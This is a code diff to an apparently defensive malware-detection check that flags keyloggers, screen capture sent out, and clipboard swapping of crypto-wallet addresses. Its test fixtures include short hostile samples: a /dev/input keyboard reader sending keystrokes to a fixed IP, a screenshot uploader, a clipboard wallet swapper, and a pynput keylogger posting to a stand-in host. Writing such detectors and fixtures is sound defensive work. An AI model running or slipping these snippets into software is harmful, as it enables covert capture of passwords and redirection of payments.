@@ -7,6 +7,7 @@ See CWE-506, CWE-200 and MITRE ATT&CK T1056.001, T1113, T1115, T1123, T1125.
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
 
 import libcst as cst
@@ -17,22 +18,47 @@ from codeguard.checks.malicious._channels import sendings
 from codeguard.checks.malicious._evaluate import value_of
 from codeguard.checks.malicious._labels import words
 from codeguard.checks.malicious._reach import reach
+from codeguard.checks.malicious._shell import Command, commands
 from codeguard.checks.malicious._writes import writes
-from codeguard.knowledge.malicious import stores
+from codeguard.knowledge.malicious import channels, stores
 from codeguard.model import Confidence, Severity
 from codeguard.syntax.unit import Unit
 
 SETTERS = {"pyperclip.copy", "clipboard.copy", "win32clipboard.SetClipboardText", "win32clipboard.SetClipboardData"}
+SETTER_METHODS = ("clipboard_append", "setText")  # of tkinter and Qt
+SETTER_PROGRAM = re.compile(r"^\S*(?:xclip|xsel|pbcopy|wl-copy|clip(?:\.exe)?)\b(?!.*(?:\s-o\b|--output))", re.DOTALL)
+WATCHERS = {
+    "GetAsyncKeyState",
+    "SetWindowsHookExA",
+    "SetWindowsHookExW",
+    "SetWindowsHookEx",
+    "bind_all",
+    "clipboard_get",
+    "clipboard",
+}
+KEYBOARD_HOOKS = (2, 13)  # WH_KEYBOARD and WH_KEYBOARD_LL of SetWindowsHookEx
+WALLET_ADDRESS = re.compile(
+    r"^(?:0x[0-9a-fA-F]{40}|(?:bc1|tb1|ltc1)[a-z0-9]{20,80}|[13LMDTr][a-zA-Z0-9]{25,34}|[48][a-zA-Z0-9]{90,110}|[A-Z]{2}\d{2}[A-Z0-9]{11,30})$"
+)
 
 
 def find(unit: Unit) -> Iterator[Hit]:
     """Report sendings of what is captured, keys written to a file, and constants put in place of a clipboard's text."""
     known = unit.fact(calls)
-    if (
-        not any(name in stores.WATCH_CALLS or name in stores.KEY_HOOKS for name in known.by_name)
-        and "GetAsyncKeyState" not in known.by_method
+    if not (
+        any(name in stores.WATCH_CALLS or name in stores.KEY_HOOKS for name in known.by_name)
+        or WATCHERS & known.by_method.keys()
+        or "/dev/input" in unit.text
+        or any(_watched(command) for command in unit.fact(commands))
     ):
         return
+    yield from _replaced_addresses(unit)
+    for command in unit.fact(commands):
+        what = _watched(command)
+        if what and channels.ADDRESS.search(command.text):
+            yield Hit(
+                command.call, f"This sends {what} to a fixed address: its receiver reads along whatever the user does"
+            )
     sent = False
     for sending in unit.fact(sendings):
         taken = sending.has("keys", "screen", "clipboard", "camera", "microphone")
@@ -55,13 +81,21 @@ def find(unit: Unit) -> Iterator[Hit]:
                 break
         else:
             polled = [c for c in known.by_method.get("GetAsyncKeyState", ()) if _in_loop(c, unit)]
+            polled += [
+                c
+                for method in ("SetWindowsHookExA", "SetWindowsHookExW", "SetWindowsHookEx")
+                for c in known.by_method.get(method, ())
+                if c.args and (value_of(c.args[0].value, unit) in KEYBOARD_HOOKS or _named_hook(c.args[0].value))
+            ]
             if polled and (len(unit.fact(writes)) or len(unit.fact(sendings))):
                 yield Hit(
                     polled[0],
-                    "This asks for the state of every key in a loop and keeps the answers: it records what is typed, passwords included",
+                    "This asks Windows for every key that is pressed and keeps or sends the answers: it records what is typed, passwords included",
                 )
     for name in SETTERS:
         for call in known.by_name.get(name, ()):
+            if any(WALLET_ADDRESS.match(text) for text in (flow.constants(call.args[-1].value) if call.args else ())):
+                continue  # reported above
             value = value_of(call.args[-1].value, unit) if call.args else None
             if isinstance(value, str) and len(value) >= 20 and " " not in value and _depends_on_clipboard(call, unit):
                 yield Hit(
@@ -80,6 +114,51 @@ def find(unit: Unit) -> Iterator[Hit]:
                     call,
                     "This replaces what the user has copied by a text of its own, such as another receiver of a payment",
                 )
+
+
+def _watched(command: Command) -> str:
+    """What a program that is run takes of the screen, the camera, the microphone or the keyboard; empty for nothing."""
+    return next((what for pattern, _, what in stores.WATCH_COMMANDS if pattern.search(command.text)), "")
+
+
+def _named_hook(node: cst.BaseExpression) -> bool:
+    return isinstance(node, (cst.Attribute, cst.Name)) and "WH_KEYBOARD" in (
+        node.attr.value if isinstance(node, cst.Attribute) else node.value
+    )
+
+
+def _replaced_addresses(unit: Unit) -> Iterator[Hit]:
+    """What puts the address of a wallet that stands in the code where the clipboard held another."""
+    known, flow = unit.fact(calls), unit.fact(reach)
+    setters = [(c, c.args[-1].value) for m in SETTER_METHODS for c in known.by_method.get(m, ()) if c.args]
+    setters += [(c, c.args[-1].value) for n in SETTERS for c in known.by_name.get(n, ()) if c.args]
+    for command in unit.fact(commands):
+        given = unit.arg(command.call, None, "input")
+        if SETTER_PROGRAM.search(command.text) and given is not None:
+            setters.append((command.call, given))
+    if not setters:
+        return
+    for call, value in setters:
+        direct = any(WALLET_ADDRESS.match(text) for text in flow.constants(value)) and (
+            "clipboard" in flow.kinds(value) or _depends_on_clipboard(call, unit)
+        )
+        if direct or ("clipboard" in flow.kinds(value) and _exchanges(unit)):
+            yield Hit(
+                call,
+                "This puts the address of a wallet of its own where the user has copied another: his payments go elsewhere",
+            )
+            return
+
+
+def _exchanges(unit: Unit) -> bool:
+    """Whether the file replaces parts of what was copied by a wallet's address."""
+    flow = unit.fact(reach)
+    return any(
+        any(WALLET_ADDRESS.match(text) for a in call.args for text in flow.constants(a.value))
+        and any("clipboard" in flow.kinds(a.value) for a in call.args)
+        for method in ("sub", "subn", "replace")
+        for call in unit.fact(calls).by_method.get(method, ())
+    )
 
 
 def _in_loop(node: cst.CSTNode, unit: Unit) -> bool:
@@ -116,6 +195,7 @@ def _mentions_clipboard(test: cst.BaseExpression, unit: Unit) -> bool:
 
 CHECK = Check(
     id="CGM011",
+    behaviour="record what the user types, sees, copies or says",
     name="input-capture",
     severity=Severity.CRITICAL,
     confidence=Confidence.HIGH,
@@ -123,6 +203,15 @@ CHECK = Check(
     find=find,
     fix="Remove the code; change the passwords that were typed while it ran.",
     bad=(
+        Bad(
+            "import glob, socket, struct\nsock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\ndef follow(device):\n    with open(device, 'rb') as events:\n        while True:\n            _, _, kind, code, value = struct.unpack('llHHI', events.read(24))\n            sock.sendto(bytes([code & 255]), ('192.0.2.61', 5353))  # finding\n\nfor path in glob.glob('/dev/input/by-path/*-kbd'):\n    follow(path)\n"
+        ),
+        Bad(
+            "import requests, subprocess\nsubprocess.run(['scrot', '/tmp/.s.png'])\nrequests.post('https://s.example.invalid', files={'f': open('/tmp/.s.png', 'rb')})  # finding\n"
+        ),
+        Bad(
+            "import re, subprocess\nheld = subprocess.check_output(['xclip', '-o']).decode()\nif re.fullmatch('0x[0-9a-f]{40}', held):\n    subprocess.run(['xclip', '-i'], input=b'0x0000000000000000000000000000000000000001')  # finding\n"
+        ),
         Bad(
             "from pynput import keyboard\nimport requests\nbuf = []\n\ndef press(k):\n    buf.append(str(k))\n    if len(buf) > 50:\n        requests.post('https://k.example.invalid/', data=''.join(buf)); buf.clear()  # finding\n\nkeyboard.Listener(on_press=press).start()\n"
         ),
@@ -140,6 +229,10 @@ CHECK = Check(
         ),
     ),
     good=(
+        Good("import subprocess\nsubprocess.run(['scrot', 'shot.png'], check=True)\n"),
+        Good(
+            "import tkinter as tk, requests\nroot = tk.Tk()\nentry = tk.Entry(root)\nentry.bind('<Return>', lambda event: requests.post('https://chat.example.invalid', json={'t': entry.get()}, timeout=9))\n"
+        ),
         Good(
             "from pynput import keyboard\n\ndef wait():\n    with keyboard.Listener(on_press=lambda k: k != keyboard.Key.esc) as l:\n        l.join()\n"
         ),
